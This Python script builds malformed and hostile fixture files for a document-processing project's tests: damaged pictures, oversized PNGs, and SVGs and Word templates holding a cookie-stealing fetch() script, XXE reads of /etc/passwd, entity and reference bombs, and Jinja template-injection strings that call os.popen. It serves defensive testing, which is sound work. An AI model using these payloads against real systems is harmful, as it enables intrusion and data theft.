"""Make the broken and hostile files of ``tests/slecht``: PDFs, Office files, pictures, templates.

The same run gives the same files, so that a test can hold the repository to them. What is text
(``vergadering.yaml``, Typst templates, ``verwacht.txt``) lies there as it is. Run it without
arguments, or with a folder to write to.
"""

import struct
import sys
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

from bad_offices import (
    OFFICES,
    template,
    zip_bomb,
)
from bad_pdfs import PDFS, one_page
from bad_werkboeken import workbook_merged, workbook_with_errors

ROOT = Path(__file__).resolve().parent.parent
CASES = ROOT / "tests" / "slecht"
ATTACHMENTS = "meetings/prt/2027-03-10/bijlagen"
FIGURES = "meetings/prt/2027-03-10/cijfers"
TEMPLATE = "templates/agenda-tabel/word.docx"
LARGEST = 60_000
"""No file is larger than this (bytes)."""


def html() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><h1>Sessie verlopen</h1><p>Log opnieuw in.</p></body></html>\n"


# -- pictures ------------------------------------------------------------------------------------


def png(wide: int, high: int, pixels: bytes, rest: bytes = b"", depth: int = 8) -> bytes:
    """Return a picture in grey; ``pixels`` is what its data chunk holds (ISO 15948, 11.2)."""
    head = struct.pack(">LLBBBBB", wide, high, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (_chunk(b"IHDR", head), _chunk(b"IDAT", pixels), rest, _chunk(b"IEND", b""))
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def grey(wide: int, high: int) -> bytes:
    return zlib.compress((b"\0" + b"\x80" * wide) * high, 9)


def png_truncated() -> bytes:
    whole = png(200, 200, grey(200, 200))
    return whole[: len(whole) // 2]


def png_giant() -> bytes:
    return png(50_000, 50_000, grey(50_000, 8))


def png_hundred_megapixels() -> bytes:
    """Return a whole picture of ten thousand points each way, black and white."""
    return png(10_000, 10_000, zlib.compress((b"\0" + b"\x55" * 1_250) * 10_000, 9), depth=1)


def png_damaged() -> bytes:
    """Return a picture whose chunks are whole, but whose pixels are no zlib data."""
    return png(20, 20, b"geen beeldpunten")


def gif_damaged() -> bytes:
    """Return a picture with a good head and nothing after it."""
    return b"GIF89a" + struct.pack("<HHBBB", 20, 20, 0xF0, 0, 0) + b"\0" * 6


def jpeg_damaged() -> bytes:
    """Return a picture that names its size and ends before its first point."""
    frame = struct.pack(">BHHBBBB", 8, 64, 64, 1, 1, 0x11, 0)
    return b"\xff\xd8\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xd9"


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="200" height="200">'
)


def svg_script() -> bytes:
    """Return a drawing that runs a script and is otherwise in order."""
    script = "<script>fetch('http://127.0.0.1:9/' + document.cookie)</script>"
    text = '<rect width="90" height="90" onload="alert(1)"/><foreignObject><p>x</p></foreignObject>'
    return f"{_SVG}{script}{text}</svg>\n".encode()


def svg_external() -> bytes:
    """Return a drawing that fetches files, in three spellings."""
    links = (
        '<image width="9" height="9" xlink:href="file:///etc/passwd"/>',
        '<image width="9" height="9" href="http://127.0.0.1:9/x.png"/>',
        "<style>@import url('http://127.0.0.1:9/x.css');</style>",
    )
    return f"{_SVG}{''.join(links)}</svg>\n".encode()


def svg_entities() -> bytes:
    lines = ['<!ENTITY a0 "lol">', '<!ENTITY wachtwoorden SYSTEM "file:///etc/passwd">']
    lines += [f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(10)]
    text = "<text>&a10;&wachtwoorden;</text>"
    return f'<?xml version="1.0"?><!DOCTYPE svg [{"".join(lines)}]>{_SVG}{text}</svg>\n'.encode()


def svg_references() -> bytes:
    """Return a drawing of ten groups that each show the one before ten times."""
    groups = ['<rect id="g0" width="9" height="9"/>']
    ten = [f'<use href="#g{n}"/>' * 10 for n in range(10)]
    groups += [f'<g id="g{n}">{uses}</g>' for n, uses in enumerate(ten, 1)]
    return f"{_SVG}{''.join(groups)}</svg>\n".encode()


def svg_filter() -> bytes:
    """Return a drawing of one square under a filter that takes hours."""
    noise = '<feTurbulence baseFrequency="0.0001" numOctaves="1000"/>'
    room = 'x="-100000%" y="-100000%" width="200000%" height="200000%"'
    square = '<rect width="200" height="200" filter="url(#f)"/>'
    return f'{_SVG}<filter id="f" {room}>{noise}</filter>{square}</svg>\n'.encode()


def svg_deep() -> bytes:
    """Return a drawing with groups in groups, 8,000 deep."""
    return f"{_SVG}{'<g>' * 8_000}{'</g>' * 8_000}</svg>\n".encode()


# -- templates -----------------------------------------------------------------------------------


def _in_text(code: str) -> Callable[[], bytes]:
    return lambda: template(ROOT / TEMPLATE, "word/document.xml", "{{ titel }}", code)


def _in_properties(code: str) -> Callable[[], bytes]:
    return lambda: template(ROOT / TEMPLATE, "docProps/core.xml", "Sjabloon agenda als tabel", code)


ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
SHELL = "{{ cycler.__init__.__globals__.os.popen('touch /tmp/gehackt').read() }}"

FILES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "cijfers-excel-samengevoegd": (f"{FIGURES}/samengevoegd.xlsx", workbook_merged),
    "cijfers-excel-fouten": (f"{FIGURES}/fouten.xlsx", workbook_with_errors),
    "pdf-nul-bytes": (f"{ATTACHMENTS}/stuk.pdf", bytes),
    "pdf-is-html": (f"{ATTACHMENTS}/stuk.pdf", html),
    "word-is-pdf": (f"{ATTACHMENTS}/stuk.docx", lambda: bytes(one_page().write())),
    **{case: (f"{ATTACHMENTS}/stuk.pdf", make) for case, make in PDFS.items()},
    **{case: (f"{ATTACHMENTS}/{name}", make) for case, (name, make) in OFFICES.items()},
    "png-afgekapt": (f"{ATTACHMENTS}/beeld.png", png_truncated),
    "png-enorm": (f"{ATTACHMENTS}/beeld.png", png_giant),
    "png-beeldpunten-stuk": (f"{ATTACHMENTS}/beeld.png", png_damaged),
    "gif-stuk": (f"{ATTACHMENTS}/beeld.gif", gif_damaged),
    "svg-script": (f"{ATTACHMENTS}/beeld.svg", svg_script),
    "svg-verwijst-naar-buiten": (f"{ATTACHMENTS}/beeld.svg", svg_external),
    "svg-entiteiten": (f"{ATTACHMENTS}/beeld.svg", svg_entities),
    "svg-bom-van-verwijzingen": (f"{ATTACHMENTS}/beeld.svg", svg_references),
    "svg-filter": (f"{ATTACHMENTS}/beeld.svg", svg_filter),
    "svg-diep": (f"{ATTACHMENTS}/beeld.svg", svg_deep),
    "jpg-stuk": (f"{ATTACHMENTS}/beeld.jpg", jpeg_damaged),
    "stuk-megapixels": ("meetings/prt/2027-03-10/stukken/luchtfoto.png", png_hundred_megapixels),
    "logo-stuk": ("logo.png", png_damaged),
    "sjabloon-word-code": (TEMPLATE, _in_text(ESCAPE)),
    "sjabloon-word-eigenschappen": (TEMPLATE, _in_properties(SHELL)),
    "sjabloon-word-veld-onbekend": (TEMPLATE, _in_text("{{ titels }}")),
    "sjabloon-word-zipbom": (TEMPLATE, zip_bomb),
    "sjabloon-word-entiteiten": (TEMPLATE, OFFICES["word-entiteitenbom"][1]),
}
"""Case → the file in its folder and what makes it."""


def main(folder: Path) -> None:
    """Write every file below ``folder``, which is laid out as ``tests/slecht``."""
    for case, (name, make) in FILES.items():
        content = make()
        if len(content) > LARGEST:
            raise ValueError(f"{case}: {len(content):,} bytes is too large")
        target = folder / case / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
        print(f"{case}/{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else CASES)
